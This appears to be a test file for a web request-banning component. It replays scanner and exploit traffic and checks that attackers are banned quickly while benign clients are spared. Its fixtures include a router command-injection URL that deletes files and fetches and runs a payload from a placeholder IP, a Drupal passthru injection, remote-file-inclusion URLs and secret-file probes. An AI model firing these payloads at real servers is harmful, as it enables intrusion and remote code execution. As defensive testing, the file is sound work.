import { type Asked, play } from './scene.spec-support.js';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';

const each = (count: number, ask: (index: number) => Asked): readonly Asked[] =>
  Array.from({ length: count }, (_, index) => ({
    headers: { 'user-agent': BROWSER },
    after: 2,
    ...ask(index),
  }));
const agents = (names: readonly string[]) =>
  each(names.length, (index) => ({ url: '/', headers: { 'user-agent': names[index] ?? '' } }));
const urls = (text: string, more: Partial<Asked> = {}) => {
  const all = text.trim().split(/\s+/);
  return each(all.length, (index) => ({ url: all[index] ?? '/', ...more }));
};

/** How an app answers what it has no route for: by 404, closed, or as an app of one page does. */
const MODES: readonly Partial<Asked>[] = [
  { status: 404 },
  { status: 401, route: '/{*path}' },
  { status: 200, route: '/{*path}' },
];

/** Attacks as they come over the wire, and how few of their requests ban. */
const ATTACKS: Readonly<Record<string, readonly [most: number, requests: readonly Asked[]]>> = {
  'one file with secrets': [2, each(3, () => ({ url: '/.env' }))],
  'one hole, again and again': [3, each(4, () => ({ url: '/GponForm/diag_Form?images/', method: 'POST' }))],
  'one hole of a gateway': [3, each(4, () => ({ url: '/clients/MyCRL', method: 'POST', after: 120 }))],
  'two interfaces of other products': [2, urls('/_cluster/health /v1/kv/?recurse')],
  'a program for a router': [
    2,
    each(3, () => ({ url: '/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.9/a;sh+/tmp/a' })),
  ],
  'a part of a page of Drupal': [
    2,
    each(3, () => ({ url: '/user/register?name[%23post_render][]=passthru', method: 'POST' })),
  ],
  'editors that take files': [
    2,
    urls('/kcfinder/upload.php /fckeditor/editor/filemanager/connectors/php/upload.php /uploadify.php'),
  ],
  'settings of frameworks': [
    5,
    urls(
      '/application/config/database.php /protected/config/main.php /app/etc/env.php /config/app.php /bin/cake',
    ),
  ],
  'files of others to run': [
    4,
    urls(
      '/a.php?p=http://e.example/x.txt? /b.php?root=http://e.example/x.txt? /c.php?d=ftp://e.example/x.gif? /d.php?dir=http://e.example/x.txt',
    ),
  ],
  'pages of programs, by the dozen': [13, each(20, (index) => ({ url: `/${index}-x.php`, after: 0.1 }))],
  'a program that is written to': [10, each(12, () => ({ url: '/wp-cron.php', method: 'POST', after: 0.2 }))],
  'a harvester': [3, agents(Array.from({ length: 3 }, () => 'WebReaper [v9.9]'))],
  'agents that nobody has had on a desk since 2016': [
    7,
    agents(
      Array.from(
        { length: 8 },
        (_, index) => `Mozilla/5.0 (Windows NT 6.1) Chrome/4${index % 8}.0.${index}.0 Safari/537.36`,
      ),
    ),
  ],
  'agents that were made by lot': [
    7,
    agents([
      'Mozilla/5.0 (compatible; MSIE 66.0; 68K; Trident/49.0)',
      'Mozilla/5.0 (Windows 7) AppleWebKit/536.0 (KHTML, like Gecko) Chrome/58.07788.294 Safari/536',
      'Mozilla/5.0 (compatible; MSIE 9.0; Intel Mac OS X; SV1; Trident/47.0)',
      'Mozilla/5.0 (Windows; .NET CLR 2.1.9; Windows NT 6.2) Gecko/20121908 Firefox/94.0',
      'Mozilla/5.0 (compatible; MSIE 10.0; Linux x86_64; Trident/12.0)',
      'Mozilla/5.0 (Windows NT.6.2; WOW64) AppleWebKit/537.13 Chrome/76.0.1 Safari/536',
      'User-Agent: Mozilla/5.0 (Windows NT 10.0)',
    ]),
  ],
};

describe('who sends few requests is banned however unknown paths are answered:', () => {
  it.each(Object.entries(ATTACKS))('%s', async (_, [most, requests]) => {
    for (const mode of MODES) {
      const { after } = await play(requests.map((asked) => ({ ...asked, ...mode })));
      expect(after).toBeLessThanOrEqual(most);
    }
  });

  it('who looks for what describes an interface, where it is not', async () => {
    const documents = urls(
      `/swagger-ui.html /swagger/index.html /v2/api-docs /v3/api-docs /api-docs /swagger.json /openapi.json /openapi.yaml /api/swagger.json
      /graphiql /redoc /swagger-resources`,
    );
    expect((await play(documents)).after).toBe(12);
    const found = await play(documents.map((asked) => ({ ...asked, status: 200, route: '/{*path}' })));
    expect(found.share).toBeLessThan(0.2);
  });
});

const login = (status: number, index: number, more: Partial<Asked> = {}): Asked => ({
  ...{ url: '/api/auth/login', method: 'POST', route: '/api/auth/login', status },
  body: { email: `u${index}@b.example`, password: `p${index}` },
  ...more,
});

describe('who guesses at a login that does not answer 401', () => {
  it.each([400, 404, 422, 423, 429])('is banned where it answers %i', async (status) => {
    const { bannedBy, after } = await play(each(40, (index) => login(status, index)));
    expect({ bannedBy, after }).toEqual({ bannedBy: ['login-guessing'], after: 34 });
  });
});

it('who goes on against the limits of an app is banned', async () => {
  const requests = each(700, () => ({ url: '/search', status: 429, route: '/search', after: 0.05 }));
  expect(await play(requests)).toMatchObject({ bannedBy: ['foreign-limit'], after: 600 });
});

/** What is like one of these and means well. */
const HONEST: Readonly<Record<string, readonly Asked[]>> = {
  'a client of a cluster that has the wrong host': each(4_000, () => ({
    url: '/_cluster/health',
    after: 10,
  })),
  'a recorder that looks for a camera': each(2_000, () => ({
    ...{ url: '/onvif/device_service', method: 'POST', after: 5 },
  })),
  'a client of a network whose gateway was here': each(2_000, () => ({
    ...{ url: '/dana-ws/namedusers', after: 30, headers: { 'user-agent': 'Pulse-Secure/9.1' } },
  })),
  'an app of Blazor that looks for its settings': each(200, (index) => ({
    url: ['/appsettings.json', '/appsettings.Production.json'][index % 2] ?? '/',
    after: 1,
  })),
  'a client of a model that looks for its server': each(200, (index) => ({
    url: ['/.well-known/mcp.json', '/mcp.json', '/mcp'][index % 3] ?? '/',
    after: 1,
  })),
  'a developer who looks for what describes an interface': urls(
    '/api-docs /swagger /openapi.json /api/docs /redoc',
    {
      headers: { 'user-agent': 'PostmanRuntime/7.45.0' },
    },
  ),
  'links that lead on to partners': each(4, (index) => ({
    url: `/goto.php?url=http://partner.example/${index}.html`,
  })),
  'a browser that opens six old pages of before': each(6, (index) => ({
    url: `/page${index}.php`,
    after: 0.1,
  })),
  'an old page that asks by POST each second': each(2_000, () => ({
    url: '/ajax.php',
    method: 'POST',
    after: 1,
  })),
  'a house with eight televisions of before': agents(
    Array.from(
      { length: 8 },
      (_, index) =>
        `Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 Chrome/38.0.${index} Safari/537.36 WebAppManager`,
    ),
  ),
  'browsers of today': agents(
    Array.from(
      { length: 20 },
      (_, index) =>
        `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/1${20 + index}.0.0.0 Safari/537.36`,
    ),
  ),
};

describe('who means well is neither banned nor past half of a limit:', () => {
  const judged = async (requests: readonly Asked[]) => {
    const { bannedBy, share, rule } = await play(requests);
    return { bannedBy, isPast: share > 0.5 ? `${rule}: ${share}` : false };
  };
  const UNHARMED = { bannedBy: [], isPast: false };

  it.each(Object.entries(HONEST))('%s', async (_, requests) => {
    for (const mode of MODES)
      expect(await judged(requests.map((asked) => ({ ...asked, ...mode })))).toEqual(UNHARMED);
  });

  it.each([
    ['five who mistype their passwords', each(10, (index) => login(422, index, { after: 20 }))],
    ['a form that is refused again and again', each(500, () => login(400, 1, { after: 1 }))],
    ['people of one carrier who log in', each(300, (index) => login(302, index, { after: 1.2 }))],
    ['a thing that logs in each second with one secret', each(3_000, () => login(200, 1, { after: 1 }))],
    [
      'forty tabs that are told to wait, and do not',
      each(2_000, () => ({ url: '/search', status: 429, route: '/search', after: 0.25 })),
    ],
  ])('%s', async (_, requests) => {
    expect(await judged(requests)).toEqual(UNHARMED);
  });
});
